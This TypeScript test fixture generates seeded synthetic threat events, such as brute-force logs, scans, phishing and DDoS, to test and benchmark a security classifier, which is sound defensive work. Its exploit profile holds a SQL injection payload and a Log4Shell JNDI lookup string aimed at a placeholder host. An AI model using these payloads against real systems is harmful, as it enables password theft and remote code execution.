import { randomInt, seededRandom, type Random } from '../../../src/threats/classifier/random.js';
import type { ClassifierInput, ThreatCategory } from '../../../src/threats/classifier/types.js';

/**
 * Seeded generator of plausible threat events for tests and bench/classifier.ts. Each
 * profile is what a typical sensor sends for one category.
 */
interface Profile {
  category: ThreatCategory;
  threatTypes: readonly string[];
  descriptions: readonly string[];
  ports: readonly number[];
  protocols: readonly string[];
  severity: readonly [number, number];
}

export const PROFILES: readonly Profile[] = [
  {
    category: 'BRUTEFORCE',
    threatTypes: ['ssh_bruteforce', 'brute-force', 'rdp brute force'],
    descriptions: [
      'Failed password for root from 203.0.113.7 port 51234 ssh2',
      'Too many authentication failures',
    ],
    ports: [22, 3389, 21],
    protocols: ['tcp'],
    severity: [4, 7],
  },
  {
    category: 'SCAN',
    threatTypes: ['port_scan', 'ET SCAN Nmap', 'network scan'],
    descriptions: ['SYN sweep over 1000 ports', 'Masscan probing of the /24'],
    ports: [80, 443, 8080, 21, 5900, 1433],
    protocols: ['tcp', 'udp'],
    severity: [2, 4],
  },
  {
    category: 'EXPLOIT',
    threatTypes: ['sql_injection', 'web-attack', 'log4shell'],
    descriptions: [
      "GET /item?id=1' UNION SELECT password FROM users--",
      '${jndi:ldap://x.example/a} in User-Agent',
    ],
    ports: [80, 443, 8080],
    protocols: ['tcp', 'http'],
    severity: [7, 10],
  },
  {
    category: 'PHISHING',
    threatTypes: ['phishing', 'phishing_url'],
    descriptions: [
      'Credential harvesting page mimicking the bank login',
      'http://paypa1-secure.example/login',
    ],
    ports: [80, 443],
    protocols: ['tcp', 'https'],
    severity: [5, 8],
  },
  {
    category: 'DDOS',
    threatTypes: ['ddos', 'syn_flood', 'udp flood'],
    descriptions: ['SYN flood 1.2 Mpps towards the web tier', 'NTP amplification traffic'],
    ports: [80, 443, 53, 123],
    protocols: ['udp', 'tcp', 'icmp'],
    severity: [7, 10],
  },
  {
    category: 'SPAM',
    threatTypes: ['spam', 'smtp_spam'],
    descriptions: ['Bulk mail from listed sender', 'Spam run via open relay attempt'],
    ports: [25, 587],
    protocols: ['tcp', 'smtp'],
    severity: [2, 4],
  },
  {
    category: 'MALWARE',
    threatTypes: ['malware', 'trojan download'],
    descriptions: ['Emotet dropper fetched over HTTP', 'Ransomware payload download blocked'],
    ports: [80, 443, 8080],
    protocols: ['tcp', 'http'],
    severity: [8, 10],
  },
  {
    category: 'BOTNET',
    threatTypes: ['botnet_c2', 'mirai'],
    descriptions: ['Beacon to known C2 every 60s', 'Mirai telnet propagation'],
    ports: [23, 2323, 6667],
    protocols: ['tcp'],
    severity: [7, 9],
  },
  {
    category: 'PROXY',
    threatTypes: ['tor_exit', 'open_proxy'],
    descriptions: ['Connection from a Tor exit node', 'Open SOCKS proxy relaying traffic'],
    ports: [9050, 1080, 3128],
    protocols: ['tcp'],
    severity: [2, 5],
  },
  {
    category: 'CRAWLER',
    threatTypes: ['bad_bot', 'web crawler'],
    descriptions: ['Aggressive crawler ignoring robots.txt', 'Scraper with a fake Googlebot user agent'],
    ports: [80, 443],
    protocols: ['http', 'https'],
    severity: [1, 3],
  },
];

function pick<T>(random: Random, items: readonly T[]): T {
  const item = items[randomInt(random, items.length)];
  if (item === undefined) throw new RangeError('empty list');
  return item;
}

export function profileOf(category: ThreatCategory): Profile {
  const profile = PROFILES.find((p) => p.category === category);
  if (profile === undefined) throw new RangeError(`no profile for ${category}`);
  return profile;
}

function sourcePort(random: Random): number {
  const r = random();
  if (r < 0.85) return 32768 + randomInt(random, 28000);
  return r < 0.95 ? 1024 + randomInt(random, 30000) : randomInt(random, 1024);
}

/** One typical event of a category. */
export function typicalEvent(random: Random, profile: Profile): ClassifierInput {
  const [low, high] = profile.severity;
  return {
    threatType: pick(random, profile.threatTypes),
    description: random() < 0.8 ? pick(random, profile.descriptions) : null,
    protocol: pick(random, profile.protocols),
    sourcePort: sourcePort(random),
    destinationPort: pick(random, profile.ports),
    severity: low + randomInt(random, high - low + 1),
    confidence: 0.6 + random() * 0.4,
    tags: ['ids', 'edge'].slice(0, randomInt(random, 3)),
    sourceIsPrivate: random() < 0.03,
    // Half during office hours, half spread over the day.
    occurredAt: new Date(
      Date.UTC(2026, 0, 5, random() < 0.5 ? 8 + randomInt(random, 10) : randomInt(random, 24)),
    ),
  };
}

/** `count` typical events cycling through all profiles. */
export function generateEvents(count: number, seed = 1): ClassifierInput[] {
  const random = seededRandom(seed);
  return Array.from({ length: count }, () => typicalEvent(random, pick(random, PROFILES)));
}

export { seededRandom };
